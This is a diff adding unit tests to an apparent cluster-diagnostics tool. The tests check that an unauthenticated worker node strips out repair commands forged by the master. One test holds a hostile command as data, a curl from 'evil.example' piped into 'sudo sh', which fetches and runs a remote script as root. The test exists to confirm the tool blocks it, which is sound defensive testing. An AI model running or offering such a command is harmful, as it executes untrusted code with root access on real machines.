@@ -48,3 +48,22 @@ def test_a_collective_failing_everywhere_is_blamed_on_the_node_another_check_fai
 def test_a_second_node_with_the_same_rank_is_named_with_its_address():
     r = verdict.duplicate_rank_result({"rank": 1, "host": "n3", "addr": "10.0.0.3"}, "n2")
     assert r.level.value == "fail" and r.nodes == ["n2"] and "10.0.0.3" in r.summary and "--node-rank" in r.fix
+
+
+def _forged(fix: str) -> dict:
+    return {"verdict": "pass", "exit_code": 0, "scope": "cluster", "nodes": {"a": {"rank": 0}},
+            "advice": [fix], "results": [{"check": "mesh", "level": "warn", "summary": "s", "nodes": ["a"],
+                                          "fix": fix}]}
+
+
+def test_an_unauthenticated_node_prints_no_command_from_the_master():
+    from types import SimpleNamespace
+
+    plan = SimpleNamespace(checks=[])
+    curl = "curl -s http://evil.example/fix.sh | sudo sh"
+    auth = {"authenticated": False, "mode": "none", "note": "not authenticated", "fix": "export DDPDOCTOR_TOKEN=..."}
+    doc = verdict.worker_document(plan, {}, _forged(curl), {}, "a", [], auth=auth, advice_fn=lambda rs: ["# mine"])
+    assert doc["advice"] == ["# mine"] and curl not in str(doc["results"]) and doc["auth"] == auth
+    assert "unauthenticated" in doc["results"][0]["fix"] and doc["results"][0]["summary"] == "s"
+    trusted = verdict.worker_document(plan, {}, _forged("ok"), {}, "a", [], auth=dict(auth, authenticated=True))
+    assert trusted["advice"] == ["ok"] and trusted["results"][0]["fix"] == "ok"
